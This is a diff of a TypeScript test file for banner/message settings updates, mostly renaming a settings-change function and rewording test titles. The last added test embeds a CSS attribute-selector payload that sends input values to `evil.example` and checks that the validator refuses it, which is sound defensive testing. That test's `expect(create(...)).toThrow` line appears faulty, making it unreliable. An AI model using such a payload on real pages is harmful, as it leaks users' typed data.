@@ -1,4 +1,4 @@
-import { changedSettings, newSettings } from "../../../shared/model/message/rules";
+import { newSettings, settingsChange } from "../../../shared/model/message/rules";
 import type { MessagePatch } from "../../../shared/model/message/settings";
 import type { Survey } from "../../../shared/model/message/survey";
 
@@ -142,46 +142,53 @@ describe("an update", () => {
   const delayed = newSettings({ ...banner, trigger: "DELAY", triggerValue: "5" });
 
   test("leaves alone what it does not name", () => {
-    expect(changedSettings(delayed, { name: "New" })).toEqual({ ...delayed, name: "New" });
-    expect(changedSettings(delayed, { trigger: "DELAY" })).toEqual(delayed);
+    expect(settingsChange({ name: "New" })(delayed)).toEqual({ ...delayed, name: "New" });
+    expect(settingsChange({ trigger: "DELAY" })(delayed)).toEqual(delayed);
   });
 
-  test("sets a partner field to null when it no longer applies", () => {
-    expect(changedSettings(delayed, { trigger: "IMMEDIATE" })).toMatchObject({
+  test("makes a partner field null that no longer applies", () => {
+    expect(settingsChange({ trigger: "IMMEDIATE" })(delayed)).toMatchObject({
       triggerValue: null,
     });
     const lasting = newSettings({ ...banner, dismissBehavior: "DURATION", dismissDuration: 60 });
-    expect(changedSettings(lasting, { dismissBehavior: "SESSION" })).toMatchObject({
+    expect(settingsChange({ dismissBehavior: "SESSION" })(lasting)).toMatchObject({
       dismissDuration: null,
     });
   });
 
   test("refuses a partner field that is named with a value but does not apply", () => {
-    expect(() => changedSettings(delayed, { trigger: "IMMEDIATE", triggerValue: "5" })).toThrow(
+    expect(() => settingsChange({ trigger: "IMMEDIATE", triggerValue: "5" })(delayed)).toThrow(
       /triggerValue must be null/,
     );
   });
 
-  test("asks for a new value when the trigger changes", () => {
-    expect(() => changedSettings(delayed, { trigger: "SCROLL" })).toThrow(/triggerValue must be/);
-    expect(changedSettings(delayed, { trigger: "SCROLL", triggerValue: "50" })).toMatchObject({
+  test("asks for the value of another trigger anew", () => {
+    expect(() => settingsChange({ trigger: "SCROLL" })(delayed)).toThrow(/triggerValue must be/);
+    expect(settingsChange({ trigger: "SCROLL", triggerValue: "50" })(delayed)).toMatchObject({
       trigger: "SCROLL",
       triggerValue: "50",
     });
   });
 
-  test("replaces the content when the template changes", () => {
-    expect(() => changedSettings(delayed, { template: "story" })).toThrow(/slidesData is required/);
-    const story = changedSettings(delayed, { template: "story", slidesData });
+  test("of the template brings its content and drops the other's", () => {
+    expect(() => settingsChange({ template: "story" })(delayed)).toThrow(/slidesData is required/);
+    const story = settingsChange({ template: "story", slidesData })(delayed);
     expect(story).toMatchObject({ template: "story", slidesData });
     expect(story).not.toHaveProperty("htmlContent");
   });
 
   test("from inline to another template floats again", () => {
     const inline = newSettings({ ...banner, template: "inline", targetSelector: "#hero" });
-    expect(changedSettings(inline, { template: "toast" })).toMatchObject({
+    expect(settingsChange({ template: "toast" })(inline)).toMatchObject({
       position: "BOTTOM_RIGHT",
       targetSelector: null,
     });
   });
+});
+
+test("styles that read the page and load are refused beside empty HTML too", () => {
+  const cssContent = ":host-context(input[value^=a]) { background: url(https://evil.example/a) }";
+  const fault = /cssContent must not have url.* together with :host-context\(\)/;
+  expect(create({ htmlContent: "", cssContent })).toThrow(fault);
+  expect(() => settingsChange({ htmlContent: "", cssContent })).toThrow(fault);
 });
